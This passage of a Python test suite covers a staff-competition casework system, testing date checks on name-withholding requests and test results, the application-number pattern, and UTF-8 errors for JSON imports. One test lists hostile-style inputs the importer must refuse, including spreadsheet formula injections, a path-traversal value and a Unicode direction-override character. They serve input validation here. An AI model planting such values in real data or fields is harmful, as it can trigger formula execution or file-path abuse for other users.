            amend_notice(session, f.document(f.AD398, only_fields=("1",)), actor=f.ACTOR, reason="C/2022/1",
                         published_on=day)
    assert len(notice.versions) == 1
    amend_notice(session, f.document(f.AD398, only_fields=("1",)), actor=f.ACTOR, reason="C/2022/1",
                 published_on=date(2022, 6, 1))
    assert [v.number for v in notice.versions] == [1, 2]


@pytest.mark.parametrize("received_at, message", [
    (datetime(2099, 12, 1, 9, tzinfo=UTC), r"^the request's receipt 2099-12-01T09:00:00\+00:00 is in the future"),
    (datetime(2022, 4, 8, 9, 0, 1, tzinfo=UTC), r"is in the future"),                 # one second ahead
    (datetime(1900, 1, 1, tzinfo=UTC), (r"^the request's receipt 1900-01-01T00:00:00\+00:00 is before the notice "
                                        r"was published \(2022-02-17\)$")),
    (datetime(2022, 2, 16, 22, 59, tzinfo=UTC), r"before the notice was published"),  # 23:59 on 16 February, Brussels
])
def test_a_name_request_received_in_the_future_or_before_the_notice_is_refused(session, frozen, received_at, message):
    """C12, D6: the receipt instant is a fact; one that has not happened, or that precedes the competition,
    would be recorded as in time."""
    from casework.competitions import claims
    from casework.models import AuditEvent
    _, [a] = f.reserve_list_published(session, frozen, [150])
    frozen.set(datetime(2022, 4, 8, 9, tzinfo=UTC))
    with pytest.raises(CompetitionError, match=message):
        claims.withhold_name(session, a, received_at=received_at, actor=f.ACTOR)
    assert a.publish_name is True
    assert session.scalar(select(func.count()).select_from(AuditEvent)
                          .where(AuditEvent.action == "name-withholding-request")) == 0
    # the edges are accepted: the day of publication in Brussels, and now
    assert claims.withhold_name(session, a, received_at=datetime(2022, 2, 16, 23, 0, tzinfo=UTC), actor=f.ACTOR).applied
    assert claims.withhold_name(session, a, received_at=frozen.now(), actor=f.ACTOR).late      # recorded, late (D6)


def test_results_taken_after_today_are_refused(session, frozen, tmp_path):
    from casework.competitions.models import Score
    from casework.competitions.results import record_mark

    from .test_files import AFTER_THE_TESTS, mcq_row
    notice = f.publish(session, f.AD402, only_fields=("1",))
    write_csv(tmp_path / "apps.csv", APP_HEADER, [application_row("A-1")])
    files.import_applications(session, notice, tmp_path / "apps.csv", actor=f.ACTOR)
    files.import_questions(session, notice, mcq_keys(tmp_path))
    frozen.set(AFTER_THE_TESTS)                                    # 9 October 2023
    for day in ("2099-01-01", "2023-10-10"):
        path = write_csv(tmp_path / "r.csv", RESULT_HEADER, [mcq_row("A-1", "verbal", 20, 10),
                                                             mcq_row("A-1", "numerical", 10, 5, taken_on=day)])
        savepoint = session.begin_nested()
        with pytest.raises(files.ImportFileError, match=rf"^line 3, column taken_on: '{day}': the day the test "
                                                        r"was taken is in the future$"):
            files.import_results(session, notice, path)
        savepoint.rollback()
    assert session.scalar(select(func.count()).select_from(Score)) == 0
    a = session.scalar(select(Application).where(Application.number == "A-1"))
    with pytest.raises(CompetitionError, match=r"^case-study: the day the test was taken \(2023-10-10\) is in the future$"):
        record_mark(session, a, "case-study", 5, datetime(2023, 10, 10).date())
    path = write_csv(tmp_path / "r.csv", RESULT_HEADER, [mcq_row("A-1", "verbal", 20, 10, taken_on="2023-10-09")])
    assert files.import_results(session, notice, path) == 1


# --- application numbers: a documented pattern ----------------------------------------------

@pytest.mark.parametrize("number", [
    "=HYPERLINK(1)", "X/../9", "+1", "-1", "@SUM(A1)", "A@1", "a-1@example.eu", ".hidden", "_A", "A 1", "A/1",
    "A\\1", "A:1", "A,1", "Ä-1", "A\u202e1", "A" * 41,
])
def test_an_application_number_outside_the_pattern_is_refused(session, frozen, tmp_path, number):
    notice = f.publish(session, f.AD402)
    path = write_csv(tmp_path / "apps.csv", APP_HEADER, [application_row("A-1"),
                                                         _with(application_row("A-2"), application=number)])
    savepoint = session.begin_nested()
    with pytest.raises(files.ImportFileError, match=r"^line 3, column application: (not an application number "
                                                    r"\(letters, digits, '-', '_', '\.', at most 40 characters, "
                                                    r"starting with a letter or a digit\)|longer than 40 characters"
                                                    r"|a control character \(U\+202E\) is not allowed)$"):
        files.import_applications(session, notice, path, actor=f.ACTOR)
    savepoint.rollback()
    assert _counts(session) == (0, 0)


def test_the_numbers_of_the_demo_and_the_tests_follow_the_pattern_and_never_hold_an_at_sign(session, frozen, tmp_path):
    from casework.competitions.history import find_candidate
    for number in ("AD-000001", "AST-001216", "A-1", "H-1", "APP-000012", "AD398-000001", "x.y_z-9", "9" * 40):
        assert files.APPLICATION_NUMBER_PATTERN.fullmatch(number), number
        assert "@" not in number
    notice = f.publish(session, f.AD402)
    path = write_csv(tmp_path / "apps.csv", APP_HEADER, [application_row("AST-001216"), application_row("A.1_b")])
    assert files.import_applications(session, notice, path, actor=f.ACTOR) == 2
    by_number, by_email = find_candidate(session, "AST-001216"), find_candidate(session, "AST-001216@Example.eu")
    assert by_number is not None and by_number is by_email


def test_a_json_file_not_in_utf8_is_told_to_be_saved_as_utf8_json_not_csv(tmp_path):
    path = tmp_path / "n.json"
    path.write_bytes('{\n "title": "Administratører"\n}'.encode("latin-1"))
    with pytest.raises(files.ImportFileError, match=r"^line 2: not UTF-8 at byte \d+ of the line .*; the file must "
                                                    r"be encoded in UTF-8 \(save the JSON file as UTF-8\)$") as refused:
        files.read_json(path)
    assert "CSV" not in str(refused.value)
